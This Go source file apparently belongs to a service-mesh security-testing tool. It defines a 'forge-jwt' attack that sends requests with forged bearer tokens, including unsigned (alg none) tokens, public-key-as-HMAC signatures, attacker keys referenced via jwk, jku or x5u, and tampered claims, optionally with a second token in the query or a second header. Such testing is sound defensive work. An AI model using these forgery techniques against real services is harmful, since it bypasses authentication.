package attacks

import (
	"context"
	"errors"
	"net/url"
	"strings"

	"github.com/meshbreach/meshbreach/attacker"
)

// Place is where a second token travels.
type Place string

// The places.
const (
	PlaceQuery  Place = "query"  // the access_token parameter of RFC 6750, section 2.3
	PlaceHeader Place = "header" // a second Authorization header
)

// ForgeJWT has the parameters of forge-jwt.
type ForgeJWT struct {
	Call
	// Token is forged as it says and sent as Authorization: Bearer.
	Token attacker.Token `json:"token"`
	// Second is another token in the same request.
	Second *attacker.Token `json:"second,omitempty"`
	// Place is where the second token travels: query (default) or header.
	Place Place `json:"place,omitempty" jsonschema:"enum=query,enum=header,default=query"`
	// Protocol is http1 (default) or http2.
	Protocol Protocol `json:"protocol,omitempty" jsonschema:"enum=http1,enum=http2,default=http1"`
}

// Loot asks for the tokens.
func (p *ForgeJWT) Loot() ([]*attacker.Leaf, []*attacker.Token) {
	return nil, tokens(&p.Token, p.Second)
}

// Check refuses parameters that contradict each other, and forgeries that
// cannot be made.
func (p *ForgeJWT) Check() error {
	return errors.Join(
		oneOf("place", p.Place, PlaceQuery, PlaceHeader),
		oneOf("protocol", p.Protocol, HTTP1, HTTP2),
		refuse(p.Place != "" && p.Second == nil, "place is for a second token"),
		checkTokens(&p.Token, p.Second),
		p.Call.Check(),
	)
}

func forgeJWT() attacker.Attack {
	return attacker.New("forge-jwt", "Send a forged token",
		`Sends a request with a bearer token that must not be accepted. The request goes
through the foothold's own sidecar if it has one. The attacker forges the token
from a genuine one. It can remove the signature (alg: none). It can sign with
HMAC and the issuer's public key as the secret (key: public-as-hmac). It can
sign with its own key (key: attacker), which the header may contain or point to
(header: {jwk: attacker}, jku, x5u). It can change claims or the header and keep
the old signature (tamper, header). A token with another issuer, audience, key
ID or lifetime needs a genuine signature, so the issuer makes it. The request
can carry a second token.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p ForgeJWT, emit func(attacker.Observation)) error {
			first, err := bearer(&p.Token)
			if err != nil {
				return err
			}
			second, err := bearer(p.Second)
			if err != nil {
				return err
			}
			k := p.request(nonce(), t, p.Protocol)
			authorize(&k, first)
			if p.Place == PlaceHeader {
				authorize(&k, second)
			} else {
				k.Path = withAccessToken(k.Path, second)
			}
			emit(f.Request(ctx, k))
			return nil
		})
}

// withAccessToken adds a query parameter and leaves the path as it stands.
func withAccessToken(path, token string) string {
	if token == "" {
		return path
	}
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	return path + sep + "access_token=" + url.QueryEscape(token)
}
